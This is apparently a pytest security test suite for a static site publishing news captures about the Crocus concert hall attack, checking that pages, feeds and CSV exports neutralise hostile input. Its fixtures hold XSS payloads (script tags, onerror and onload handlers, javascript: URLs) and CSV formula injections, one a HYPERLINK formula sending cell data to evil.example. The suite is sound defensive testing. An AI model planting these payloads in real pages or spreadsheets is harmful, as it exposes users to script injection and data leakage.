"""Hostile input never becomes markup: a publish build of the bundled dossier plus hostile captures and
hostile editor files carries no event-handler attribute, no javascript: URL and no script that is not the
theme's, in any page; feeds carry capture text as text; CSV cells never start a formula."""

from __future__ import annotations

import csv
import html
import io
import json
import os
import re
import shutil
from pathlib import Path
from xml.etree import ElementTree

import pytest
from bs4 import BeautifulSoup
from conftest import ROOT, build_site, load_export

from dossier.site.charts import bars, chart_id

SITEURL = "https://owner.github.io/crocus-dossier"
PAYLOADS = (
    '<script>alert("x")</script>',
    "<img src=x onerror=alert(1)>",
    "\"'><svg onload=alert(1)>",
    "javascript:alert(1)",
)

HOSTILE_TEXT = f"""TASS Russian News Agency

Kremlin <b>says</b> {PAYLOADS[0]} & nothing "else" matters

24.03.2024

Original url: javascript:alert(document.cookie)

MOSCOW, March 24. /TASS/. Russian President Vladimir Putin has no plans to visit the site of the attack, Kremlin spokesman Dmitry Peskov told reporters.

=HYPERLINK("http://evil.example/?leak="&A1, "Dmitry Peskov said 133 people had been killed in the attack on Friday")

+133 people had been killed, Ivan "<Hacker>" Petrov of =Evil Corp said, according to {PAYLOADS[3]} and <a href="javascript:alert(1)">a link</a>.

@SUM(1+1) Ivan "<Hacker>" Petrov said nothing else about the attack on Friday.

Officials said {PAYLOADS[1]} and {PAYLOADS[2]} were found in the hall, Ivan "<Hacker>" Petrov told reporters.

-The Investigative Committee earlier said 133 people had been killed <style>body{{display:none}}</style>.

© 2024 TASS Russian News Agency
"""

# DW's first paragraph is its lede, the feed entry's summary.
HOSTILE_LEDE = f"""Skip to more DW sites

Hostile <lede> reaches the feed – DW – 03/25/2024

03/25/2024

{PAYLOADS[1]} Russian authorities said "<b>nothing</b>" & more about the attack on the concert hall near Moscow.

The number of people killed in the attack has risen to 137, Russia's Investigative Committee said on Monday.

Ukraine has denied any involvement in the attack, officials said in a statement on Monday.

ab/cd (AFP, Reuters)
"""

HOSTILE_HTML = f"""<!doctype html><html><head><title>Attack &lt;coverage&gt; {PAYLOADS[2]}</title>
<meta property="og:url" content="javascript:alert(1)"><link rel="canonical" href="javascript:alert(1)">
<script>alert("head")</script></head>
<body onload="alert(1)"><article><h1>Attack <em>coverage</em> {PAYLOADS[0]} at the hall</h1>
<time datetime="2024-03-26">March 26, 2024</time>
<p onclick="alert(1)">Emergency workers searched the site on Tuesday, and Dmitry Peskov said 139 people had been killed {PAYLOADS[1]}.</p>
<p>Officials said <a href="javascript:alert(1)" onmouseover="alert(2)">the count</a> would rise; Ivan "&lt;Hacker&gt;" Petrov spoke to reporters {PAYLOADS[3]}.</p>
<img src="x" onerror="alert(1)" alt="&quot; onerror=&quot;alert(1)">
<script>document.write("<p>injected</p>")</script>
<p>The Investigative Committee said the suspects had been detained, and 182 people were wounded in the attack.</p>
</article></body></html>
"""

HOSTILE_ENTITIES = """
[[entity]]
id = "ivan-petrov"
name = 'Ivan "<Hacker>" Petrov'
type = "person"
aliases = ["Petrov' onmouseover='alert(1)", "<script>alert(1)</script>"]
description = "<img src=x onerror=alert(1)> javascript:alert(1)"
wikidata = "Q1"

[[entity]]
id = "evil-corp"
name = "=Evil Corp"
type = "organisation"
"""

HOSTILE_TOPICS = """
[[topic]]
name = '<b onmouseover="alert(1)">Hostile</b> & "quoted"'
description = "<script>alert(1)</script>"
phrases = ["onerror", "javascript"]
entities = ["ivan-petrov"]
"""

HOSTILE_EDITORIAL = """
[captures."zz_hostile.html"]
title = '"><script>alert("title")</script><img src=x onerror=alert(1)>'
source = "<img src=x onerror=alert(1)> Agency"
"""


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Path:
    tmp = tmp_path_factory.mktemp("hostile")
    content = tmp / "content"
    shutil.copytree(ROOT / "content", content)
    (content / "captures" / "zz_hostile.txt").write_text(HOSTILE_TEXT, encoding="utf-8")
    (content / "captures" / "zz_hostile.html").write_text(HOSTILE_HTML, encoding="utf-8")
    (content / "captures" / "zz_hostile_lede.txt").write_text(HOSTILE_LEDE, encoding="utf-8")
    with (content / "entities.toml").open("a", encoding="utf-8") as fh:
        fh.write(HOSTILE_ENTITIES)
    with (content / "topics.toml").open("a", encoding="utf-8") as fh:
        fh.write(HOSTILE_TOPICS)
    (content / "editorial.toml").write_text(HOSTILE_EDITORIAL, encoding="utf-8")
    os.environ["SITEURL"] = SITEURL
    try:
        return build_site(tmp, content=content, conf="publishconf.py")
    finally:
        del os.environ["SITEURL"]


def test_the_hostile_captures_are_published(site):
    export = load_export(site)
    captures = {a["capture"]: a for a in export["articles"]}
    assert {"zz_hostile.txt", "zz_hostile.html", "zz_hostile_lede.txt"} <= set(captures), export["rejected"]
    assert captures["zz_hostile_lede.txt"]["lede"].startswith(PAYLOADS[1])
    assert "ivan-petrov" in captures["zz_hostile.txt"]["entities"]
    assert (site / "entities" / "ivan-petrov.html").is_file()


def url_scheme(value: str) -> str:
    # Browsers ignore whitespace and control characters inside a scheme ("java\tscript:").
    return re.sub(r"[\x00-\x20]", "", value).lower()


def test_no_page_carries_handlers_script_urls_or_foreign_scripts(site):
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 20
    theme_js = {p.resolve() for p in (site / "theme").rglob("*.js")}
    for page in pages:
        soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
        where = page.relative_to(site).as_posix()
        for tag in soup.find_all(True):
            for name, value in tag.attrs.items():
                assert not name.lower().startswith("on"), (where, tag.name, name)
                values = value if isinstance(value, list) else [value]
                for v in values:
                    assert not url_scheme(v).startswith(("javascript:", "vbscript:", "data:text/html")), (
                        where,
                        tag.name,
                        name,
                        v,
                    )
            assert tag.name not in {"iframe", "frame", "object", "embed", "img", "style", "base"}, (where, str(tag)[:120])
        for script in soup.find_all("script"):
            if script.get("type") == "application/ld+json":
                assert "<" not in script.string, where
                json.loads(script.string)
            else:
                src = script.get("src", "")
                assert src and not script.string, (where, str(script)[:120])
                target = (
                    src.removeprefix(SITEURL + "/")
                    if src.startswith(SITEURL)
                    else str((page.parent / src).resolve().relative_to(site.resolve()))
                )
                assert (site / target).resolve() in theme_js, (where, src)


def test_hostile_text_is_shown_as_text(site):
    export = load_export(site)
    article = next(a for a in export["articles"] if a["capture"] == "zz_hostile.html")
    page = BeautifulSoup((site / article["url"]).read_text(encoding="utf-8"), "html.parser")
    assert page.h1.get_text() == '"><script>alert("title")</script><img src=x onerror=alert(1)>'
    entity = BeautifulSoup((site / "entities" / "ivan-petrov.html").read_text(encoding="utf-8"), "html.parser")
    assert entity.h1.get_text() == 'Ivan "<Hacker>" Petrov'
    assert "<img src=x onerror=alert(1)> javascript:alert(1)" in entity.get_text()


def test_feeds_carry_capture_text_as_text_and_credit_byline_and_outlet(site):
    ns = {"a": "http://www.w3.org/2005/Atom"}
    root = ElementTree.parse(site / "feeds" / "all.atom.xml").getroot()
    entries = {e.find("a:title", ns).text: e for e in root.findall("a:entry", ns)}
    # The title exactly as the capture (and the editor) wrote it: nothing between < and > deleted.
    assert 'Kremlin <b>says</b> <script>alert("x")</script> & nothing "else" matters' in entries
    assert '"><script>alert("title")</script><img src=x onerror=alert(1)>' in entries
    hostile_lede = entries["Hostile <lede> reaches the feed"].find("a:summary", ns).text
    assert hostile_lede.startswith('&lt;img src=x onerror=alert(1)&gt; Russian authorities said "&lt;b&gt;nothing')
    ledes = {a["title"]: a["lede"] for a in load_export(site)["articles"]}
    for title, entry in entries.items():
        summary = entry.find("a:summary", ns)
        if summary is not None:
            assert summary.get("type") == "html"
            # The HTML a feed reader renders holds no element at all, and reads as the lede, exactly.
            assert "<" not in summary.text and html.unescape(summary.text) == ledes[title], summary.text
        content = entry.find("a:content", ns)
        assert BeautifulSoup(content.text, "html.parser").find(["script", "img", "iframe", "svg", "style"]) is None
        assert entry.find("a:author/a:name", ns).text != "Crocus dossier editors"
    bundled = {a["title"]: a for a in load_export(site)["articles"]}
    authors = {t: e.find("a:author/a:name", ns).text for t, e in entries.items()}
    assert authors["No Plans for Putin to Meet With Concert Attack Survivors, Kremlin Says"] == "AFP (The Moscow Times)"
    dw = next(t for t, a in bundled.items() if a["source"] == "DW")
    assert authors[dw] == f"{', '.join(bundled[dw]['authors'])} (DW)"


def rows(site: Path, name: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO((site / name).read_text(encoding="utf-8"))))


FORMULA = re.compile(r"^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]")


def test_csv_cells_never_start_a_formula(site):
    seen_quoted = 0
    for name in ("entities.csv", "mentions.csv", "figures.csv"):
        for row in rows(site, name):
            for cell in row.values():
                assert not FORMULA.match(cell), (name, cell)
                seen_quoted += cell.startswith(("'=", "'+", "'-", "'@"))
    assert seen_quoted >= 3
    mentions = rows(site, "mentions.csv")
    assert any(r["sentence"].startswith("'=HYPERLINK(") for r in mentions)
    assert any(r["name"] == "'=Evil Corp" for r in rows(site, "entities.csv"))
    figures = rows(site, "figures.csv")
    assert any(r["text"].startswith(("'+133", "'-The")) for r in figures), [r["text"] for r in figures]
    # Numbers stay numbers, and dossier.json keeps the text exactly as written.
    assert all(re.fullmatch(r"\d*", r["value"]) for r in figures)
    export = load_export(site)
    assert any(m["sentence"].startswith("=HYPERLINK(") for e in export["entities"] for m in e["mentions"])


def test_chart_ids_are_reduced_to_a_safe_alphabet():
    svg = bars([("2024-03-24", 1)], "t", 'tl-x" onmouseover="alert(1)')
    ident = re.search(r'aria-labelledby="(\S+)-t ', svg).group(1)
    assert re.fullmatch(r"[A-Za-z0-9_-]+", ident) and "onmouseover=" not in svg
    assert chart_id("tl-fsb") == "tl-fsb"
    assert chart_id('a"b') != chart_id("a<b")
